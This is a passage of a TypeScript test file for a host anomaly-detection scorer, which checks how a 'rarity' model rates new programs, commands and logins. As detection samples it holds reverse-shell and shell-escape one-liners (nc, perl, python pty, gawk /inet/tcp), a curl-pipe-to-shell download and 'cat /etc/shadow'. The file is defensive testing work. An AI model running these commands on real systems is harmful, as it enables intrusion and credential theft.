import * as path from 'path';
import { Worker } from 'worker_threads';
import t from 'tap';
import { sequenceEvent } from '../scorer/features/extract';
import { createModel, loadModel, selectBackend } from '../scorer/models';
import { splitContexts } from '../scorer/models/contexts';
import { LstmModel } from '../scorer/models/lstm';
import { OcsvmModel, trainLibsvm } from '../scorer/models/ocsvm';
import { hashEvent } from '../scorer/models/hashing';
import { fnv1a32 } from '../scorer/hash';
import { demoEvents } from '../bench/demo-events';
import { IN_PACKAGE_RUN, NO_LOGIN, type BehaviourEvent, type Model, type TrainingStep } from '../scorer/types';
import { DIST } from './helpers/paths';

/** a pooled baseline's login record of `who`: what makes it an account that logs in here (rarity's person discount) */
const loginRecord = (who: string, time: number): BehaviourEvent => ({
  key: 'login pts from private:10.40',
  values: ['kind=login', 'net=internal', `who=${who}`],
  pairs: [`who=${who}>kind=login`, `who=${who}>net=internal`],
  text: '',
  time,
});

function ev(exe: string, port: string, i: number): BehaviourEvent {
  return {
    key: `exec ${exe}`,
    values: [`kind=process`, `exe=${exe}`, `rport=${port}`],
    pairs: [`exe=${exe}>rport=${port}`],
    text: `${exe.split('/').pop()} --flag ${i % 3}`,
    time: 1_790_000_000 + i * 60,
  };
}

const HABITS = [
  ['/usr/bin/git', '22'],
  ['/usr/bin/curl', '443'],
  ['/usr/bin/ssh', '22'],
  ['/usr/bin/node', '443'],
];
function habitual(n: number): BehaviourEvent[] {
  return Array.from({ length: n }, (_, i) => ev(HABITS[i % HABITS.length][0], HABITS[i % HABITS.length][1], i));
}

async function one(m: Model, e: BehaviourEvent, context: BehaviourEvent[] = []): Promise<number> {
  return (await m.score([{ event: e, context }]))[0].value;
}

t.test('rarity learns habits and flags a never-seen program and port', async (t) => {
  const m = createModel('rarity');
  const train = habitual(2000);
  await m.fit([train]);
  const usual = await one(m, ev('/usr/bin/git', '22', 5), train.slice(-3));
  const [odd] = await m.score([{ event: ev('/usr/bin/nc', '4444', 5), context: train.slice(-3) }]);
  t.ok(odd.value > usual + 5, `nc:4444 (${odd.value.toFixed(2)}) far above git:22 (${usual.toFixed(2)})`);
  t.match(odd.detail, /never seen/, `reason: ${odd.detail}`);
  const again = loadModel(JSON.parse(JSON.stringify(m.toState())));
  t.equal(await one(again, ev('/usr/bin/nc', '4444', 5), train.slice(-3)), odd.value, 'state round trip scores the same');
});

t.test('a rarity model saved before a field existed ignores that field until it is fitted again', async (t) => {
  // a file row as the extractor wrote it before `pathloc` (security.ts fileLocation), and after
  const fileRow = (i: number, withLocation: boolean): BehaviourEvent => ({
    key: 'file CREATED /var/backups/etc-<n>.tgz',
    values: ['kind=file', 'path=/var/backups/etc-<n>.tgz', 'action=CREATED', ...(withLocation ? ['pathloc=system'] : [])],
    pairs: ['action=CREATED>path=/var/backups/etc-<n>.tgz', ...(withLocation ? ['action=CREATED>pathloc=system'] : [])],
    text: '',
    time: 1_790_000_000 + i * 3600,
  });
  const before = Array.from({ length: 300 }, (_, i) => fileRow(i, false));
  const fitted = createModel('rarity');
  await fitted.fit([before]);
  // the state an earlier build saved: no `features`
  const { features: _features, ...earlier } = fitted.toState() as Record<string, unknown>;
  const upgraded = loadModel(JSON.parse(JSON.stringify(earlier)));
  const routine = await one(upgraded, fileRow(400, true), before.slice(-1));
  t.equal(routine, await one(upgraded, fileRow(400, false), before.slice(-1)), 'the routine file row scores as it did before the upgrade');
  // this build fitting the same rows knows them for rows of the build before (a file row
  // without the field): the field is ignored as well (the next test: a retraining)
  t.equal(await one(fitted, fileRow(400, true), before.slice(-1)), routine, 'a model of this build fitted on rows without the field ignores it too');
  const saved = loadModel(JSON.parse(JSON.stringify(upgraded.toState())));
  t.equal(await one(saved, fileRow(400, true), before.slice(-1)), routine, 'saved again, it still knows which fields it was fitted with');
});

t.test('a rarity model fitted again on a window extracted before a field existed still ignores that field', async (t) => {
  // A retraining fits a new model on the subject's window, whose events were extracted when
  // they arrived: after an upgrade, most of them by the build before `pathloc`. Fitted there,
  // a model of this build took the field for news wherever the window had not shown it: the
  // first retraining after the upgrade (6 h) brought back what FIELD_SINCE prevents, every
  // routine file row of a place not changed since the upgrade taken for a new kind of place.
  // Host baselines are fitted the same way.
  const PLACES = [
    ['/var/backups/etc-<n>.tgz', 'system'],
    ['/etc/app/app.conf', 'config'],
  ];
  const fileRow = (i: number, place: number, withLocation: boolean): BehaviourEvent => {
    const [p, loc] = PLACES[place];
    return {
      key: `file UPDATED ${p}`,
      values: ['kind=file', `path=${p}`, 'action=UPDATED', ...(withLocation ? [`pathloc=${loc}`] : [])],
      pairs: [`action=UPDATED>path=${p}`, ...(withLocation ? [`action=UPDATED>pathloc=${loc}`] : [])],
      text: '',
      time: 1_790_000_000 + i * 3600,
    };
  };
  const before = Array.from({ length: 300 }, (_, i) => fileRow(i, i % 2, false));
  const old = createModel('rarity');
  await old.fit([before]);
  const { features: _features, ...earlier } = old.toState() as Record<string, unknown>;
  const upgraded = loadModel(JSON.parse(JSON.stringify(earlier)));
  // (after a backup row, as in the routine: the step is known)
  const routine = await one(upgraded, fileRow(400, 1, true), [before[0]]);
  // the first retraining: no file row since the upgrade, then three of the backups only
  for (const since of [0, 3]) {
    const window = [...before, ...Array.from({ length: since }, (_, i) => fileRow(300 + i, 0, true))];
    const retrained = createModel('rarity');
    await retrained.fit([window]);
    const after = await one(retrained, fileRow(400, 1, true), [before[0]]);
    t.ok(
      Math.abs(after - routine) < 0.01,
      `retrained on ${since} rows of the new build: the routine config row scores ${after.toFixed(2)} bits (${routine.toFixed(2)} before)`,
    );
    const saved = loadModel(JSON.parse(JSON.stringify(retrained.toState())));
    t.equal(await one(saved, fileRow(400, 1, true), [before[0]]), after, 'the same after a save and a load');
  }
  // once the window holds only events of this build, the model weighs the field, rows of a
  // query no unit knows among them: those name their columns as they are, `path` too
  // (SELECT path, mode FROM suid_bin), and carry no file location
  const suid = (i: number): BehaviourEvent => ({
    key: 'suid_bin path=/usr/bin/passwd',
    values: ['kind=other', 'path=/usr/bin/passwd', 'mode=4755'],
    pairs: [],
    text: '',
    time: 1_790_000_000 + i * 3600 + 60,
  });
  const current = Array.from({ length: 300 }, (_, i) => (i % 3 === 2 ? suid(i) : fileRow(i, 0, true)));
  const fresh = createModel('rarity');
  await fresh.fit([current]);
  const moved = { ...fileRow(400, 0, true), values: ['kind=file', 'path=/var/backups/etc-<n>.tgz', 'action=UPDATED', 'pathloc=accounts'] };
  t.ok(
    (await one(fresh, moved, current.slice(-1))) > (await one(fresh, fileRow(400, 0, true), current.slice(-1))) + 1,
    'fitted on events that all carry it, a kind of place never changed before is news',
  );
});

/** a process event of command line `cmd`, hourly, with `field=value` (and its pair with the program) when a value is given */
const commandEvent =
  (field: string) =>
  (i: number, cmd: string, value: string | null): BehaviourEvent => {
    const exe = `/usr/bin/${cmd.split(' ')[0]}`;
    return {
      key: `exec ${exe} <- /bin/bash`,
      values: ['kind=process', `exe=${exe}`, ...(value ? [`${field}=${value}`] : [])],
      pairs: [`exe=${exe}>cmd=${cmd}`, ...(value ? [`exe=${exe}>${field}=${value}`] : [])],
      text: cmd,
      time: 1_790_000_000 + i * 3600,
    };
  };

t.test('a rarity model of the build before `argloc` ignores it, fitted again on the old window too', async (t) => {
  // Branch `poison` added `argloc` (where a command's path arguments point) without a
  // FIELD_SINCE entry: every subject trained before it took each routine command naming a
  // path for a new kind of behaviour. A `/tmp` replay (14 days of a routine with `less
  // /var/log/syslog`, `cat /etc/hosts`, `vim ~/notes.md`, the subject files stripped of
  // argloc as the build before wrote them) had 64 to 82 of 120 rows bad on each of 6 days
  // after (0 without the upgrade): bad rows are not learned, so the field was never learnt.
  const cmdRow = commandEvent('argloc');
  const ROUTINE: Array<[string, string | null]> = [
    ['less /var/log/syslog', 'log'],
    ['cat /etc/hosts', 'config'],
    ['git status', null],
  ];
  const before = Array.from({ length: 300 }, (_, i) => cmdRow(i, ROUTINE[i % 3][0], null));
  const old = createModel('rarity');
  await old.fit([before]);
  // a state saved by the build before (features 2: pathloc, not argloc)
  const upgraded = loadModel(JSON.parse(JSON.stringify({ ...(old.toState() as Record<string, unknown>), features: 2 })));
  const withField = await one(upgraded, cmdRow(400, 'cat /etc/hosts', 'config'), [before[0]]);
  const withoutField = await one(upgraded, cmdRow(400, 'cat /etc/hosts', null), [before[0]]);
  t.ok(
    Math.abs(withField - withoutField) < 0.01,
    `the routine command scores as before the upgrade (${withField.toFixed(2)} bits, ${withoutField.toFixed(2)} without the field)`,
  );
  // retrained on a window of the old build's rows and a few of this build's, of one place only
  const window = [...before, ...Array.from({ length: 3 }, (_, i) => cmdRow(300 + i, 'less /var/log/syslog', 'log'))];
  const retrained = createModel('rarity');
  await retrained.fit([window]);
  const after = await one(retrained, cmdRow(400, 'cat /etc/hosts', 'config'), [before[0]]);
  t.ok(
    Math.abs(after - withoutField) < 0.01,
    `retrained, the routine command naming another place still scores ${after.toFixed(2)} bits (${withoutField.toFixed(2)})`,
  );
  // fitted on this build's events only, a place the commands never named is news
  const current = Array.from({ length: 300 }, (_, i) => cmdRow(i, ROUTINE[i % 3][0], ROUTINE[i % 3][1]));
  const fresh = createModel('rarity');
  await fresh.fit([current]);
  t.ok(
    (await one(fresh, cmdRow(400, 'cat /etc/shadow', 'accounts'), [current[0]])) >
      (await one(fresh, cmdRow(400, 'cat /etc/hosts', 'config'), [current[0]])) + 1,
    'fitted on events that all carry it, a new place is news',
  );
});

t.test('a rarity model of the build before `argform` ignores it, fitted again on the old window too', async (t) => {
  // Branch `argform` added the form of a command line (inline code, an encoded blob, a pipe
  // into a shell) as `argloc` was added: a subject whose routine has such a line (an admin's
  // daily `perl -ne`), trained before it, must not take each of them for a new kind of
  // behaviour after the upgrade, nor after a retraining on a window extracted before it.
  const cmdRow = commandEvent('argform');
  const ROUTINE: Array<[string, string | null]> = [
    ['perl -ne print', 'inline-code'],
    ['git status', null],
    ['ls -la', null],
  ];
  const before = Array.from({ length: 300 }, (_, i) => cmdRow(i, ROUTINE[i % 3][0], null));
  const old = createModel('rarity');
  await old.fit([before]);
  // a state saved by the build before (features 3: argloc, not argform)
  const upgraded = loadModel(JSON.parse(JSON.stringify({ ...(old.toState() as Record<string, unknown>), features: 3 })));
  const withField = await one(upgraded, cmdRow(400, 'perl -ne print', 'inline-code'), [before[0]]);
  const withoutField = await one(upgraded, cmdRow(400, 'perl -ne print', null), [before[0]]);
  t.ok(
    Math.abs(withField - withoutField) < 0.01,
    `the routine command scores as before the upgrade (${withField.toFixed(2)} bits, ${withoutField.toFixed(2)} without the field)`,
  );
  // retrained on a window of the old build's rows and one of this build's
  const window = [...before, cmdRow(300, 'git status', null)];
  const retrained = createModel('rarity');
  await retrained.fit([window]);
  const after = await one(retrained, cmdRow(400, 'perl -ne print', 'inline-code'), [before[0]]);
  const afterWithout = await one(retrained, cmdRow(400, 'perl -ne print', null), [before[0]]);
  t.ok(
    Math.abs(after - afterWithout) < 0.01,
    `retrained on events extracted before the field, the routine command scores ${after.toFixed(2)} bits (${afterWithout.toFixed(2)} without the field)`,
  );
  // fitted on this build's events only, a form the commands never had is news
  const current = Array.from({ length: 300 }, (_, i) => cmdRow(i, ROUTINE[i % 3][0], ROUTINE[i % 3][1]));
  const fresh = createModel('rarity');
  await fresh.fit([current]);
  t.ok(
    (await one(fresh, cmdRow(400, 'git status | sh', 'pipe-shell'), [current[0]])) > (await one(fresh, cmdRow(400, 'git status', null), [current[0]])) + 1,
    'fitted on events that all carry it, a form never seen is news',
  );
  t.ok(Math.abs((await one(fresh, cmdRow(400, 'perl -ne print', 'inline-code'), [current[0]])) - withoutField) < 0.5, 'and the routine form is routine');
});

t.test('rarity names values that contain ">" whole in its reasons', async (t) => {
  // generalised paths and mined commands carry `<tmp>` and `<*>`: the pair separator is not the first `>`
  const m = createModel('rarity');
  const train = habitual(500);
  await m.fit([train]);
  const [odd] = await m.score([{ event: ev('/tmp/<tmp>/kworkerd', '443', 5), context: train.slice(-1) }]);
  t.match(odd.detail, /program `\/tmp\/<tmp>\/kworkerd`/, `reason: ${odd.detail}`);
  t.notMatch(odd.detail, /with \/kworker/, 'no piece of the path read as a field name');
  const [pair] = await m.score([{ event: { ...ev('/usr/bin/git', '22', 5), pairs: ['exe=/usr/bin/sh -c <*>>cmd=curl <*> | sh'] }, context: train.slice(-1) }]);
  t.match(pair.detail, /program `\/usr\/bin\/sh -c <\*>` with command `curl <\*> \| sh`/, `reason: ${pair.detail}`);
});

t.test('rarity counts one new thing once: a new program is not stronger for the pairs and steps that repeat it', async (t) => {
  // an event as the extractor makes one: a program, its command line's template, its
  // working directory, and the pairs of them
  const proc = (exe: string, cmd: string, cwd: string, i: number): BehaviourEvent => ({
    key: `exec ${exe} <- /bin/bash`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, `cwd=${cwd}`, 'exeloc=system'],
    pairs: [`parent=/bin/bash>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, 'parent=/bin/bash>exeloc=system'],
    text: '',
    time: 1_790_000_000 + i * 600,
  });
  const tools = [
    ['/usr/bin/git', 'git status'],
    ['/usr/bin/make', 'make test'],
    ['/usr/bin/vim', 'vim <*>'],
    ['/usr/bin/grep', 'grep -rn <*> <*>'],
  ];
  // a developer works in many directories: a new one is weaker evidence than a new program
  const train = Array.from({ length: 2000 }, (_, i) => proc(tools[i % 4][0], tools[i % 4][1], `~/src/p${(i * 7) % 20}`, i));
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  const at = 2000;
  // one new thing: a program never run (its template, its pairs and its step are new with it)
  const program = await one(m, proc('/usr/bin/htop', 'htop', '~/src/p1', at));
  // one new thing: a new template of a known program (fewer tokens repeat it)
  const template = await one(m, proc('/usr/bin/git', 'git bisect start', '~/src/p1', at));
  // two: a program never run, in a working directory never seen
  const two = await one(m, proc('/usr/bin/htop', 'htop', '~/src/p99', at));
  t.ok(two > program + 1.5, `a new program from a new directory (${two.toFixed(2)}) is well above the new program alone (${program.toFixed(2)})`);
  // a new template of a known program counts half (the next test): doubled, it is what one new thing weighs
  t.ok(
    program < 2 * template + 1,
    `a new program (${program.toFixed(2)}) is not counted one and a half times against a new template (${template.toFixed(2)}, counted half)`,
  );
});

t.test('rarity: in a pooled baseline, the values of an account that logs in count half unless its event brings a new kind', async (t) => {
  // two accounts with the same routine; one of them also logs in every day (a person at a
  // shell), the other never does (a service account)
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (who: string, exe: string, time: number, loc = 'system'): BehaviourEvent => ({
    key: `exec ${exe} <- /bin/bash`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `exeloc=${loc}`, `who=${who}`],
    pairs: [`parent=/bin/bash>exe=${exe}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=${loc}`, `who=${who}>kind=process`],
    text: '',
    time,
  });
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 10; d++) {
    const day = start + d * DAY;
    train.push(loginRecord('ops', day + 9 * 3600));
    for (let i = 0; i < 60; i++) {
      const exe = ['/usr/bin/tail', '/usr/bin/grep', '/usr/bin/df'][i % 3];
      train.push(proc('ops', exe, day + 9 * 3600 + i * 60), proc('svc', exe, day + 9 * 3600 + i * 60 + 30));
    }
  }
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  const at = start + 10 * DAY + 10 * 3600;
  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
  const personTool = await score(proc('ops', '/usr/bin/htop', at));
  const serviceTool = await score(proc('svc', '/usr/bin/htop', at));
  t.ok(
    personTool.value < 0.6 * serviceTool.value,
    `a new program of the account that logs in (${personTool.value.toFixed(2)}) counts half of the same of one that never does (${serviceTool.value.toFixed(2)})`,
  );
  t.match(personTool.detail, /`ops`, an account that logs in here,/, personTool.detail);
  // a service's child is no person at a shell, whatever login records its account has (one
  // forged through libutempter gave a web shell the discount: review7): its values count in
  // full, and the fact alone is no evidence (the account that never logs in scores the same)
  const withoutLogin = (e: BehaviourEvent): BehaviourEvent => ({ ...e, values: [...e.values, NO_LOGIN] });
  const childTool = await score(withoutLogin(proc('ops', '/usr/bin/htop', at)));
  t.ok(
    childTool.value > 0.9 * serviceTool.value,
    `a new program of that account's process no login is behind (${childTool.value.toFixed(2)}) is not discounted (${serviceTool.value.toFixed(2)} for the other)`,
  );
  t.notMatch(childTool.detail, /an account that logs in here/, `and its reasons do not call it one (${childTool.detail})`);
  t.equal((await score(withoutLogin(proc('svc', '/usr/bin/htop', at)))).value, serviceTool.value, 'and no login behind it is no evidence of its own');
  // a new kind: a program from a temp directory is weighed in full for either account
  const personTemp = await score(proc('ops', '/tmp/x', at, 'temp'));
  const serviceTemp = await score(proc('svc', '/tmp/x', at, 'temp'));
  t.ok(
    personTemp.value > 0.9 * serviceTemp.value && personTemp.value > serviceTool.value,
    `a program in a temp directory of the account that logs in (${personTemp.value.toFixed(2)}) is not discounted (${serviceTemp.value.toFixed(2)} for the other)`,
  );
});

t.test("rarity: a person account's code run by an interpreter is weighed as anyone's (review7)", async (t) => {
  // review7 replayed GTFOBins one-liners as the scenario set's operator: `perl -e exec
  // '/bin/sh'`, `python3 -c pty.spawn`, `awk BEGIN{system()}`, `busybox nc -e sh` scored 0.204
  // before the person discount and 0.601 after it. A new interpreter running code given as
  // its arguments is not a person's new tool: its values count in full
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (who: string, exe: string, cmd: string, time: number): BehaviourEvent => ({
    key: `exec ${exe} <- /bin/bash`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', `who=${who}`],
    pairs: [`parent=/bin/bash>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=system`, `who=${who}>kind=process`],
    text: '',
    time,
  });
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 10; d++) {
    const day = start + d * DAY;
    train.push(loginRecord('ops', day + 9 * 3600));
    for (let i = 0; i < 60; i++) {
      const [exe, cmd] = [
        ['/usr/bin/tail', 'tail -n <*> <*>'],
        ['/usr/bin/grep', 'grep -c <*> <*>'],
        ['/usr/bin/df', 'df -h'],
      ][i % 3];
      train.push(proc('ops', exe, cmd, day + 9 * 3600 + i * 60), proc('svc', exe, cmd, day + 9 * 3600 + i * 60 + 30));
    }
  }
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  const at = start + 10 * DAY + 10 * 3600;
  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
  const tool = await score(proc('ops', '/usr/bin/htop', 'htop', at));
  const toolOfService = await score(proc('svc', '/usr/bin/htop', 'htop', at));
  t.ok(tool.value < 0.6 * toolOfService.value, `a person's new tool still counts half (${tool.value.toFixed(2)} against ${toolOfService.value.toFixed(2)})`);
  for (const [exe, cmd] of [
    ['/usr/bin/perl', "perl -e exec '/bin/sh'"],
    ['/usr/bin/python<n>', "python3 -c import pty;pty.spawn('/bin/sh')"],
    ['/usr/bin/awk', 'awk BEGIN{system("/bin/sh")}'],
    ['/usr/bin/busybox', 'busybox nc <*> <*> -e sh'],
  ]) {
    const person = await score(proc('ops', exe, cmd, at));
    const service = await score(proc('svc', exe, cmd, at));
    t.ok(person.value > 0.9 * service.value, `${cmd}: the person's (${person.value.toFixed(2)}) weighs as the service account's (${service.value.toFixed(2)})`);
  }
});

t.test('rarity: new options of a program the account runs count half, unless the arguments are code, an account or a new object', async (t) => {
  // the host baseline's events of two accounts: a developer's tools, and root's cron shell
  // and sshd's fork for the developer's sessions
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (who: string, exe: string, parent: string, cmd: string, time: number, extra: string[] = []): BehaviourEvent => ({
    key: `exec ${exe} <- ${parent}`,
    values: ['kind=process', `exe=${exe}`, `parent=${parent}`, `cmd=${cmd}`, 'exeloc=system', `who=${who}`, ...extra],
    pairs: [`parent=${parent}>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`],
    text: '',
    time,
  });
  const routine = [
    ['dana', '/usr/bin/docker', '/bin/bash', 'docker ps'],
    ['dana', '/usr/bin/docker', '/bin/bash', 'docker build -t <*> .'],
    ['dana', '/usr/bin/git', '/bin/bash', 'git status'],
    ['root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly'],
    ['root', '/usr/sbin/sshd', 'unknown', 'sshd: dana [priv]'],
  ];
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 10; d++)
    for (let i = 0; i < 200; i++) train.push(proc(...(routine[i % routine.length] as [string, string, string, string]), start + d * DAY + i * 60));
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  const at = start + 10 * DAY + 3600;
  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
  const options = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker build --no-cache -t <*> .', at));
  const program = await score(proc('dana', '/usr/bin/htop', '/bin/bash', 'htop', at));
  // rowfix: a known program on an operand none of its command lines named is no new option
  const object = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at));
  const stop = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at));
  const code = await score(proc('root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c curl -fsSL http://<*>/u.sh | sh', at));
  const account = await score(proc('root', '/usr/sbin/sshd', 'unknown', 'sshd: root [priv]', at));
  // the same new options, run where the account's paths never pointed: a new kind is not discounted
  const place = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at, ['argloc=accounts']));
  t.ok(options.value < program.value - 2, `new options of docker (${options.value.toFixed(2)}) are well below a new program (${program.value.toFixed(2)})`);
  t.match(options.detail, /^new options of a known program: command `docker build --no-cache -t <\*> \.`/, options.detail);
  for (const s of [object, stop]) {
    t.ok(
      s.value > options.value + 2,
      `a known program on a new object (${s.value.toFixed(2)}) is not discounted as new options are (${options.value.toFixed(2)})`,
    );
    t.match(s.detail, /^a known program on a new object \(`/, s.detail);
  }
  t.match(stop.detail, /^a known program on a new object \(`stop` `falco`\): command `docker stop falco`/, 'the reasons name the new operands');
  // the operands known are rebuilt from the counts of a saved model, and learnt online
  const saved = loadModel(JSON.parse(JSON.stringify(m.toState())));
  t.equal(
    (await saved.score([{ event: proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at), context: [] }]))[0].detail,
    stop.detail,
    'a saved model knows the same operands',
  );
  saved.observe?.(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop falco', at), []);
  const again = (await saved.score([{ event: proc('dana', '/usr/bin/docker', '/bin/bash', 'docker stop -t <*> falco', at), context: [] }]))[0];
  t.match(again.detail, /^new options of a known program/, `once learnt, the object's new options are options (${again.detail})`);
  t.ok(
    code.value > options.value + 2,
    `a new command line of a shell under cron (${code.value.toFixed(2)}) is not discounted as options are (${options.value.toFixed(2)})`,
  );
  t.ok(account.value > options.value + 2, `nor is sshd's fork for an account never logged in here (${account.value.toFixed(2)})`);
  t.ok(place.value > program.value, `new options that point at the accounts (${place.value.toFixed(2)}) are not discounted`);
  // review7: the extractor generalises a version in a program's name (`python3` is
  // `python<n>`), and awk, gdb and nodejs run code given as arguments: none is an option
  const interpreters = [
    ['/usr/bin/python<n>', 'python3 manage.py test', "python3 -c import pty;pty.spawn('/bin/sh')"],
    ['/usr/bin/perl<n>.<n>', 'perl5.36 report.pl', "perl5.36 -e exec '/bin/sh'"],
    ['/usr/bin/gawk', 'gawk {print $2} access.log', 'gawk BEGIN{s="/inet/tcp/<*>/<*>/<*>";while(1){s|&getline c;print c|&s}}'],
    ['/usr/bin/nodejs', 'nodejs server.js', "nodejs -e require('child_process').spawn('/bin/sh')"],
    ['/usr/bin/gdb', 'gdb ./app core', "gdb -nx -ex python import os;os.system('/bin/sh') -ex quit"],
  ];
  const withTools = createModel('rarity');
  const more = interpreters.map(([exe, cmd]) => ['dana', exe, '/bin/bash', cmd]);
  const train2: BehaviourEvent[] = [];
  for (let d = 0; d < 10; d++)
    for (let i = 0; i < 200; i++) {
      const r = [...routine, ...more][i % (routine.length + more.length)] as [string, string, string, string];
      train2.push(proc(...r, start + d * DAY + i * 60));
    }
  await withTools.fit(train2.map((e) => [e]));
  for (const [exe, , attack] of interpreters) {
    const s = (await withTools.score([{ event: proc('dana', exe, '/bin/bash', attack, at), context: [] }]))[0];
    t.notMatch(s.detail, /new options of a known program/, `${exe}'s new code is not new options (${s.value.toFixed(2)}: ${s.detail})`);
  }
});

t.test("rarity: a new template that masks a known line's operand with the miner's <*> names a new object (rowfix)", async (t) => {
  // the miner widens `sudo systemctl reload php8.2-fpm` to `sudo systemctl <*> <*>` with the
  // next line like it: the template's own words are all known, the line named something else
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (exe: string, cmd: string, time: number): BehaviourEvent => ({
    key: `exec ${exe} <- /bin/bash`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', 'who=deploy'],
    pairs: [`parent=/bin/bash>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=deploy>exe=${exe}`],
    text: '',
    time,
  });
  const train: BehaviourEvent[] = [];
  for (let d = 0; d < 10; d++)
    for (let i = 0; i < 100; i++) {
      const [exe, cmd] = [
        ['/usr/bin/sudo', 'sudo systemctl reload php8.2-fpm'],
        ['/usr/bin/tar', 'tar -cf /var/backups/db.tar'],
        ['/usr/bin/rsync', 'rsync -a <*> <*>'],
      ][i % 3];
      train.push(proc(exe, cmd, start + d * DAY + i * 60));
    }
  const m = createModel('rarity');
  await m.fit(train.map((e) => [e]));
  const at = start + 10 * DAY + 3600;
  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
  const widened = await score(proc('/usr/bin/sudo', 'sudo systemctl <*> <*>', at));
  t.match(widened.detail, /^a known program on a new object \(in place of `reload` `php8\.2-fpm`\)/, widened.detail);
  // a path the miner masked is where the line points (argloc), not an object; an option is an option
  const path = await score(proc('/usr/bin/tar', 'tar -cf <*>', at));
  const option = await score(proc('/usr/bin/rsync', 'rsync -a --delete <*> <*>', at));
  for (const s of [path, option]) t.match(s.detail, /^new options of a known program/, s.detail);
  t.ok(widened.value > path.value + 1, `the masked operand (${widened.value.toFixed(2)}) weighs more than a masked path (${path.value.toFixed(2)})`);
});

t.test('rarity: the operands index forgets what the counts forget (bounded as the command lines are, budget2)', async (t) => {
  // the index of each program's operands is built from the `exe>cmd` counts when first asked
  // and then learnt online; the counts are bounded (maxTokensPerField, the rarest dropped), and
  // an index that kept every operand ever learnt grew for as long as the process ran
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (cmd: string, time: number): BehaviourEvent => ({
    key: 'exec /usr/bin/docker <- /bin/bash',
    values: ['kind=process', 'exe=/usr/bin/docker', 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', 'who=dana'],
    pairs: ['parent=/bin/bash>exe=/usr/bin/docker', `exe=/usr/bin/docker>cmd=${cmd}`, 'who=dana>exe=/usr/bin/docker'],
    text: '',
    time,
  });
  const train: BehaviourEvent[] = [proc('docker stop falco', start)];
  for (let d = 0; d < 10; d++) for (let i = 0; i < 100; i++) train.push(proc(i % 2 ? 'docker ps' : 'docker build -t <*> .', start + d * DAY + 60 + i * 60));
  const m = createModel('rarity', { maxTokensPerField: 20 });
  await m.fit(train.map((e) => [e]));
  let at = start + 10 * DAY;
  const score = async (model: Model, cmd: string) => (await model.score([{ event: proc(cmd, at), context: [] }]))[0];
  // a new command line builds the index here, which knows the one-off line's operands
  t.match((await score(m, 'docker images')).detail, /^a known program on a new object \(`images`\)/, 'the index is built');
  t.match((await score(m, 'docker stop -t <*> falco')).detail, /^new options of a known program/, 'a line learnt once is known');
  // many other command lines, each a few times: the one-off line is the rarest, and dropped
  for (let n = 0; n < 40; n++) for (let k = 0; k < 3; k++) m.observe?.(proc(`docker pull image${n}`, (at += 60)), []);
  const live = await score(m, 'docker stop falco');
  const restored = await score(loadModel(JSON.parse(JSON.stringify(m.toState()))), 'docker stop falco');
  t.match(restored.detail, /^a known program on a new object \(`stop` `falco`\)/, `the saved model no longer knows the line (${restored.detail})`);
  t.equal(live.detail, restored.detail, 'the running model knows what its saved state knows: no operand of a forgotten line');
});

t.test('rarity: where shell histories are collected, an account that logs in but never types at a shell is no person (rowfix)', async (t) => {
  const DAY = 86400;
  const start = 1_790_000_000 - (1_790_000_000 % DAY);
  const proc = (who: string, exe: string, cmd: string, time: number): BehaviourEvent => ({
    key: `exec ${exe} <- /bin/bash`,
    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `cmd=${cmd}`, 'exeloc=system', `who=${who}`],
    pairs: ['parent=/bin/bash>exe=' + exe, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=system`, `who=${who}>kind=process`],
    text: '',
    time,
  });
  const typed = (who: string, cmd: string, time: number): BehaviourEvent => ({
    key: `shell ${cmd}`,
    values: ['kind=shell', `exe=${cmd.split(' ')[0]}`, `cmd=${cmd}`, `who=${who}`],
    pairs: [`who=${who}>kind=shell`],
    text: '',
    time,
  });
  const fit = async (histories: boolean) => {
    const train: BehaviourEvent[] = [];
    for (let d = 0; d < 10; d++) {
      const day = start + d * DAY + 9 * 3600;
      train.push(loginRecord('ops', day), loginRecord('deploy', day + 60));
      for (let i = 0; i < 60; i++) {
        train.push(
          proc('ops', '/usr/bin/tail', 'tail -n <*> <*>', day + 120 + i * 60),
